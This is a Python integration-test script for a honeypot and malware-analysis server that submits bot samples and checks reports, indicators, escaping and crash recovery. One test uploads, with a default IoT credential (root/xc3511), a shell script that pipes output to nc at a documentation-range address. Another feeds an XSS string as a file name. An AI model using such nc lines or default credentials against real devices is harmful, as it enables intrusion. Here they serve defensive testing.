"""The laboratory of a server, from files that come in to reports and indicators.

Usage: laboratory.py ISA..., the processors whose bots are handed in. KOMAINU names the program, KOMAINU_KITS the folder of
the kits, KOMAINU_SAMPLES that of our own programs (docs/samples.md), with the truth about them in samples.json.
"""

import ftplib
import hashlib
import io
import json
import os
import pathlib
import signal
import socket
import subprocess
import sys
import tempfile
import time

ROOT = pathlib.Path(__file__).resolve().parents[2]
KOMAINU = pathlib.Path(os.environ.get("KOMAINU", ROOT / "target/debug/komainu")).absolute()
KITS = pathlib.Path(os.environ.get("KOMAINU_KITS", ROOT / "target/kits")).absolute()
SAMPLES = pathlib.Path(os.environ.get("KOMAINU_SAMPLES", ROOT / "target/samples")).absolute()

# More than anything here takes on a busy machine.
LIMIT_S = 420
# What the issue of the laboratory asks for, with a run that ends by itself.
REPORT_S_MAX = 20
# Programs of ours stand under the names of their processors, of which a guest may run several.
TARGETS = {"arm": ["armv5", "armv7"]}
# The ports of the camera.
PORTS = (21, 23, 80, 81, 443, 554, 2323, 34567)


def must(condition, what):
    if not condition:
        raise AssertionError(what)


def equal(found, wanted, what=""):
    must(found == wanted, f"{found!r} instead of {wanted!r} {what}")


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def is_free(port):
    with socket.socket() as probe:
        return probe.connect_ex(("127.0.0.1", port)) != 0


def wait_until(what, look, limit_s=LIMIT_S):
    until = time.monotonic() + limit_s
    while time.monotonic() < until:
        found = look()
        if found:
            return found
        time.sleep(0.1)
    raise AssertionError(f"{what} does not come within {limit_s} s")


class Site:
    """A server with a laboratory and a camera that is none."""

    def __init__(self, folder, quiet_seconds=5):
        self.folder = folder
        self.data, self.log = folder / "data", folder / "komainu.log"
        offsets = (1000 + (os.getpid() + 1013 * attempt) % 25000 for attempt in range(40))
        self.offset = next(offset for offset in offsets if all(is_free(offset + port) for port in PORTS))
        self.configuration = folder / "komainu.toml"
        self.configuration.write_text(
            f"[intel]\ndocumentation_addresses = true\n"
            f"[sensor]\nid = \"gate\"\nrun_in_serve = true\npersonas = [\"camera\"]\nport_offset = {self.offset}\n"
            f"[sandbox]\nkits = {json.dumps(str(KITS))}\nsnapshots = {json.dumps(str(folder / 'snapshots'))}\nruns_at_once = 8\n"
            f"[lab]\nworkers = 4\nseconds = 30\nquiet_seconds = {quiet_seconds}\n"
        )
        self.process = None

    def __enter__(self):
        self.start()
        return self

    def __exit__(self, *_):
        self.stop()

    def start(self):
        command = [KOMAINU, "serve", "--data", self.data, "--config", self.configuration]
        for listener in ("--api", "--mqtts", "--tls"):
            command += [listener, f"127.0.0.1:{free_port()}"]
        with open(self.log, "a") as log:
            before = self.log.read_text().count("\nready\n")
            self.process = subprocess.Popen(command, stdout=log, stderr=log, stdin=subprocess.DEVNULL)
        wait_until("ready", lambda: self.log.read_text().count("\nready\n") > before or self.process.poll() is not None)
        must(self.process.poll() is None, self.log.read_text()[-3000:])

    def stop(self):
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            equal(self.process.wait(60), 0, "the status after SIGTERM")

    def command(self, *arguments, fails=False):
        command = [KOMAINU, *arguments, "--data", self.data, "--config", self.configuration]
        done = subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=LIMIT_S, check=False)
        must((done.returncode != 0) == fails, f"{arguments}: {done.stdout}{done.stderr}")
        return done.stderr if fails else done.stdout

    def submit(self, path, *options):
        self.command("samples", "submit", path, *options)
        return hashlib.sha256(path.read_bytes()).hexdigest()

    def file(self, name, contents):
        path = self.folder / name
        path.write_bytes(contents)
        return path

    def report(self, sha256, form="json"):
        text = self.command("samples", "report", sha256, "--form", form)
        return json.loads(text) if form != "html" else text

    def shown(self, sha256):
        return self.command("samples", "show", sha256)

    def counts(self):
        words = self.command("samples", "counts").split()
        return {"waiting": int(words[0]), "working": int(words[2]), "done": int(words[5]), "failed": int(words[7])}

    def wait_until_done(self, count):
        def is_done():
            counts = self.counts()
            return counts["waiting"] == counts["working"] == 0 and counts["done"] + counts["failed"] >= count and counts

        return wait_until(f"the reports about {count} samples", is_done)

    def indicators(self):
        return [line.split()[-1] for line in self.command("indicators", "list").splitlines()]


CHECKS = []


def check(function):
    CHECKS.append(function)
    return function


def targets(isas):
    return [target for isa in isas for target in TARGETS.get(isa, [isa])]


def plain_bot(isa):
    """The contents of the bot for a guest that hides nothing."""
    return (SAMPLES / targets([isa])[0] / "bot-plain").read_bytes()


def bots(isas):
    """The bots that are linked statically for these guests, each with what it keeps."""
    truth = json.loads((SAMPLES / "samples.json").read_text())
    wanted = targets(isas)
    return [bot for bot in truth if bot["isa"] in wanted and bot["linkage"] == "static"]


@check
def servers_of_all_bots_are_found(site, isas):
    """Whatever hides it: the report names the server, and it becomes an indicator."""
    corpus = bots(isas)
    equal(len(corpus), 7 * len(targets(isas)))
    digests = {site.submit(SAMPLES / bot["file"]): bot for bot in corpus}
    site.wait_until_done(len(corpus))
    indicators, missed = site.indicators(), []
    for sha256, bot in digests.items():
        report = site.report(sha256)
        command = [endpoint for endpoint in report["endpoints"] if endpoint["role"] == "command"]
        hosts = {host for endpoint in command for host in [endpoint["address"], *endpoint["names"]]}
        ports = {endpoint["port"] for endpoint in command}
        # The names of a day are not known before.
        server = bot.get("server")
        is_found = bot["port"] in ports and (server in hosts if server else any(name.endswith(".test") for name in hosts))
        value = server if server and not server[0].isdigit() else f"{server}:{bot['port']}/tcp" if server else None
        is_taught = value in indicators if value else any(name.endswith(".test") for name in indicators)
        if not (is_found and is_taught):
            missed.append((bot["file"], sorted(hosts), value))
        equal([run["run_as"] for run in report["runs"]], ["user", "root"])
    print(f"servers found: {len(corpus) - len(missed)} of {len(corpus)}")
    equal(missed, [])


@check
def a_report_is_there_soon(site, isas):
    """With a run that ends early."""
    for isa in isas:
        path = site.file(f"again-{isa}", plain_bot(isa) + isa.encode())
        begin = time.monotonic()
        site.command("samples", "submit", path, "--wait")
        took_s = time.monotonic() - begin
        print(f"from the file to the report on {isa}: {took_s:.1f} s")
        must(took_s <= REPORT_S_MAX, f"{took_s:.1f} s on {isa}")


@check
def each_form_of_a_report_is_there(site, isas):
    sha256 = hashlib.sha256((SAMPLES / bots(isas)[0]["file"]).read_bytes()).hexdigest()
    must("<html" in site.report(sha256, "html"), "a page")
    must('lang="ja"' in site.command("samples", "report", sha256, "--form", "html", "--language", "ja"), "a page in Japanese")
    equal(site.report(sha256, "stix")["type"], "bundle")
    equal(site.report(sha256, "triage")["samples"][0]["digests"]["sha256"], sha256)
    md5 = hashlib.md5((SAMPLES / bots(isas)[0]["file"]).read_bytes()).hexdigest()
    must(sha256 in site.command("samples", "show", md5), "by its MD5")


@check
def what_a_sensor_got_is_told_with_its_visit(site, _isas):
    contents = b"#!/bin/sh\n# harmless\nwhile :; do echo hello; sleep 1; done | nc 203.0.113.77 4545\n"
    sha256 = hashlib.sha256(contents).hexdigest()
    with ftplib.FTP() as device:
        device.connect("127.0.0.1", site.offset + 21, timeout=30)
        device.login("root", "xc3511")
        device.storbinary("STOR x.sh", io.BytesIO(contents))
    wait_until("the sample of the sensor", lambda: sha256 in site.command("samples", "list"))
    wait_until("its report", lambda: "state       done" in site.shown(sha256))
    wait_until("the visit by which it came", lambda: "sensor gate, session " in site.shown(sha256))
    shown = wait_until("the indicator", lambda: "203.0.113.77:4545/tcp" in site.indicators()
                       and site.command("indicators", "show", "203.0.113.77:4545/tcp"))
    session = site.shown(sha256).split("session ")[1].split()[0]
    wait_until("the visit beside the indicator", lambda: session in site.command("indicators", "show", "203.0.113.77:4545/tcp"))
    must(sha256 in shown and "gate" in shown, shown)


@check
def what_is_no_program_has_a_report_all_the_same(site, _isas):
    for name, contents, says in [
        ("text.txt", b"nothing", "not_run"),
        ("empty", b"", "not_run"),
        ("<b>\x1b[31m.sh", b"#!/bin/sh\necho <script>alert(1)</script>\n", "no_harm_seen"),
        ("truncated", (SAMPLES / "mips/bot-plain").read_bytes()[:60], ""),
    ]:
        path = site.file(name, contents)
        site.command("samples", "submit", path, "--wait")
        sha256 = hashlib.sha256(contents).hexdigest()
        verdict = site.report(sha256)["verdict"]["level"]
        must(not says or verdict == says, f"{name!r}: {verdict}")
        must("<script>alert" not in site.report(sha256, "html") and "\x1b" not in site.shown(sha256), "escaped")
    large = site.folder / "large"
    with open(large, "wb") as file:
        file.truncate((32 << 20) + 1)
    must("more than 33554432 bytes" in site.command("samples", "submit", large, fails=True), "too large")
    must("no SHA-256" in site.command("samples", "show", "nonsense", fails=True), "no digest")
    must("there is no sample" in site.command("samples", "again", "00" * 32, fails=True), "not there")


@check
def a_worker_that_is_killed_and_a_server_that_is_killed_lose_nothing(site, isas):
    plain = [plain_bot(isa) for isa in isas]
    before = site.counts()["done"]
    files = [site.file(f"more-{number}", contents + b"%d" % number) for number, contents in enumerate(plain * 2)]
    digests = [site.submit(path) for path in files]
    wait_until("work", lambda: site.counts()["working"] > 0)
    workers = subprocess.run(["pgrep", "-f", "^/proc/self/exe triage-worker"], capture_output=True, text=True, check=False)
    for worker in workers.stdout.split():
        os.kill(int(worker), signal.SIGKILL)
    site.process.kill()
    site.process.wait()
    site.start()
    counts = site.wait_until_done(before + len(files))
    equal(counts, {"waiting": 0, "working": 0, "done": before + len(files), "failed": 0})
    for sha256 in digests:
        must("came        1 times" in site.shown(sha256), "once")
        equal(len(site.report(sha256)["runs"]), 2)


@check
def a_sample_is_looked_at_again_and_waits_while_no_server_runs(site, isas):
    sha256 = hashlib.sha256((SAMPLES / bots(isas)[0]["file"]).read_bytes()).hexdigest()
    site.stop()
    site.command("samples", "again", sha256)
    must("state       waiting" in site.shown(sha256), "it waits")
    site.start()
    wait_until("its report", lambda: "state       done" in site.shown(sha256))


def main():
    isas = sys.argv[1:] or ["arm", "mips", "x86_64"]
    passed = failed = 0
    with tempfile.TemporaryDirectory(prefix="komainu-laboratory-") as folder, Site(pathlib.Path(folder)) as site:
        for function in CHECKS:
            begin = time.monotonic()
            try:
                function(site, isas)
                passed += 1
                print(f"check laboratory {function.__name__} ... ok ({time.monotonic() - begin:.1f} s)", flush=True)
            except Exception as error:
                failed += 1
                print(f"check laboratory {function.__name__} ... FAILED: {error}", flush=True)
        if failed:
            print(site.log.read_text()[-4000:])
    print(f"laboratory: {passed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
